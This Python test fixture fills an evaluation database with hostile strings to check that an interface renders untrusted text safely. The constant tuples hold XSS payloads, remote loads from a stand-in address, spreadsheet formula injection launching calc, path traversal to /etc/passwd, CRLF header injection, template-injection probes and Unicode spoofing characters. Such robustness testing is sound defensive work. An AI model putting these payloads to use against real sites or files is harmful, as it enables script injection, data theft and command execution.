"""Texts that try to be more than texts, and a store whose every text is one of them."""

from __future__ import annotations

import json
from pathlib import Path

from eval.store import open_store

HOST = "203.0.113.1"
"""Of a block for documentation (RFC 5737): nobody answers there."""
OWNED = "document.title='owned';window.owned=1"
MEGABYTE = 1_000_000

ACTIVE = (
    f"<script>{OWNED}</script>",
    f"<SCRIPT SRC=//{HOST}/x.js></SCRIPT>",
    f'<img src=x onerror="{OWNED}">',
    f"<img src='http://{HOST}/a.png'>",
    f"<svg/onload={OWNED}>",
    f"<svg><script>{OWNED}</script></svg>",
    f"<body onload={OWNED}>",
    f'<iframe srcdoc="<script>parent.{OWNED}</script>"></iframe>',
    f"<iframe src=http://{HOST}/></iframe>",
    f"<object data=http://{HOST}/x.swf></object><embed src=http://{HOST}/y>",
    f"<link rel=stylesheet href=http://{HOST}/x.css>",
    f"<meta http-equiv=refresh content='0;url=http://{HOST}/'>",
    f"<base href=http://{HOST}/>",
    f'<form action=http://{HOST}/><input autofocus onfocus="{OWNED}"><button>Sign in again</button></form>',
    f'<details open ontoggle="{OWNED}"><summary>x</summary></details>',
    f'<video><source onerror="{OWNED}"></video><audio src=http://{HOST}/a.mp3 autoplay></audio>',
    f'<a href="javascript:{OWNED}">click</a>',
    f'<a href="data:text/html,<script>{OWNED}</script>">click</a>',
    f"<a href='http://{HOST}/' ping='http://{HOST}/ping' target=_blank>click</a>",
    f'<math><mtext></p><img src=x onerror="{OWNED}"></mtext></math>',
    f'<noscript><p title="</noscript><img src=x onerror={OWNED}>">',
    f"<template><img src=x onerror={OWNED}></template>",
    f"<!--><img src=x onerror={OWNED}>-->",
    f'"><img src=x onerror={OWNED}>',
    f"' onmouseover='{OWNED}' x='",
    f"javascript:{OWNED}",
    "data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0nb3duZWQnPC9zY3JpcHQ+",
    f"&lt;script&gt;{OWNED}&lt;/script&gt; &#x3c;img src=x onerror={OWNED}&#x3e;",
)
STYLED = (
    "</article></div></div><style>body{display:none}</style>",
    f"<style>@import 'http://{HOST}/x.css'; *{{background:url(http://{HOST}/b.png)}}</style>",
    "<div style='position:fixed;inset:0;z-index:9999999;background:red'>cover</div>",
    "<marquee><font size=999>wide</font></marquee>",
    "<table><tr><td>" * 40,
    "<pre>" + "wide " * 400,
)
MARKED = (
    f"[click](javascript:{OWNED}) **BOLDOWNED**",
    f"![x](http://{HOST}/x.png) ![y](data:image/svg+xml,<svg/onload={OWNED}>)",
    f"<http://{HOST}/auto> http://{HOST}/bare www.{HOST}.example",
    f"[ref]: http://{HOST}/ref\n[ref] [^1]\n\n[^1]: note",
    "# HEADINGOWNED\n\n> quote\n\n- list\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "```html\n<script>1</script>\n```\n`code` ~~gone~~ __BOLDOWNED__",
    "$\\href{javascript:alert(1)}{x}$ $$\\frac{1}{0}$$ \\(x\\) \\[y\\]",
    f"$\\includegraphics{{http://{HOST}/x.png}}$ $\\def\\x{{\\x\\x}}\\x$",
    ":red[x] :blue-background[x] :rainbow[x] :small[x]",
    ":material/delete: :streamlit: :smile: :shortcode: :red-badge[x]",
    "<<<<<<<< -------- ======== ******** ________",
    "%s %d {0} {answer} {words.__class__} {{ 7*7 }} ${7*7} #{7*7}",
)
SPELLED = (
    "\x1b[31mred\x1b[0m \x1b]0;owned\x07 \x1b[2J \x9b31m",
    "\u202egnp.exe\u202c \u2066left\u2069 \u200f\u061c",
    "zero\u200bwidth\u200c\u200d\ufeff\u2060\u00ad joined",
    "a\u0300" + "\u0301" * 400,
    "\u3164\u115f\u1160\uffa0 blank letters",
    "\U000e0041\U000e0042 tags \ufe0f\ue000 \U0010fffd",
    "line\u2028separator\u2029paragraph\x0b\x0c\x85 next",
    "\x00nul\x08\x08\x08bell\x07\x7f",
    '=HYPERLINK("http://203.0.113.1","click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0\r\n=1+1",
    "../../../../etc/passwd",
    "..\\..\\C:\\Windows\\win.ini\r\nSet-Cookie: owned=1",
    "nowrap" * 4_000,
    "言" * 6_000,
    "\n" * 2_000 + "end",
    "\t" * 2_000 + "end",
)
HUGE = (
    "x" * MEGABYTE,
    f'<img src=x onerror="{OWNED}">' * (MEGABYTE // 60),
    "\u202e" * (MEGABYTE // 3),
)
HOSTILE = (*ACTIVE, *STYLED, *MARKED, *SPELLED, *HUGE)
SURROGATES = "lone \ud800 and \udfff surrogates"
"""Only JSON can carry it: DuckDB's text is UTF-8."""
NAMES = tuple(text[:300].replace("\x00", "") for text in HOSTILE)
"""What a name could be: a study's, a set's, a judge's, a checkpoint's, a category."""


def hostile_store(store: Path, path: Path) -> Path:
    """A copy of `store` in which every text that somebody else wrote is hostile, each of HOSTILE at many places."""
    path.write_bytes(store.read_bytes())
    texts = [text.replace("\x00", "") for text in HOSTILE]
    with open_store(path, read_only=False) as db:
        db.execute("CREATE TEMP TABLE bad AS SELECT unnest($texts) AS body, generate_subscripts($texts, 1) AS n",
                   {"texts": texts})  # fmt: skip
        db.execute("CREATE TEMP TABLE named AS SELECT unnest($texts) AS name, generate_subscripts($texts, 1) AS n",
                   {"texts": NAMES})  # fmt: skip
        for table, column, key, where in (
            ("text", "body", "text_id", "true"),
            ("score", "reason", "(judgement_id || axis)", "true"),
            ("judgement", "error_kind", "judgement_id", "error_kind IS NOT NULL"),
            ("answer", "error_kind", "answer_id", "error_kind IS NOT NULL"),
        ):
            db.execute(
                f"UPDATE {table} SET {column} = bad.body FROM bad "
                f"WHERE {where} AND bad.n = 1 + (hash({key}) % {len(texts)})::INTEGER"
            )
        for table, column, key, where in (
            ("judge", "name", "judge_id", "true"),
            ("prompt_set", "name", "set_id", "true"),
            ("checkpoint", "label", "checkpoint_id", "kind <> 'merge'"),
        ):
            db.execute(
                f"UPDATE {table} SET {column} = named.name FROM named "
                f"WHERE {where} AND named.n = 1 + (hash({key}) % {len(NAMES)})::INTEGER"
            )
        _prompts_and_items(db, texts)
        db.execute("UPDATE study SET name = ?", ["".join(NAMES[:3])])
    return path


def _prompts_and_items(db: object, texts: list[str]) -> None:
    """Prompts as JSON, where lone surrogates survive; two levels of category, one of them huge."""
    execute = db.execute  # type: ignore[attr-defined]
    prompts = [row[0] for row in execute("SELECT prompt_id FROM prompt ORDER BY 1").fetchall()]
    for number, prompt in enumerate(prompts):
        text = SURROGATES if number % 9 == 0 else texts[number % len(texts)]
        execute("UPDATE prompt SET messages = ? WHERE prompt_id = ?",
                [json.dumps([{"role": "user", "content": text}]), prompt])  # fmt: skip
    items = execute("SELECT set_id, item_key FROM set_item ORDER BY 1, 2").fetchall()
    for number, (owner, key) in enumerate(items):
        first = texts[-1 - number] if number < 3 else NAMES[number % 12]
        category = [first, texts[(5 * number) % len(texts)]]
        execute("UPDATE set_item SET category = ?, item_key = ? WHERE set_id = ? AND item_key = ?",
                [category, f"{NAMES[number % len(NAMES)]} {number}", owner, key])  # fmt: skip
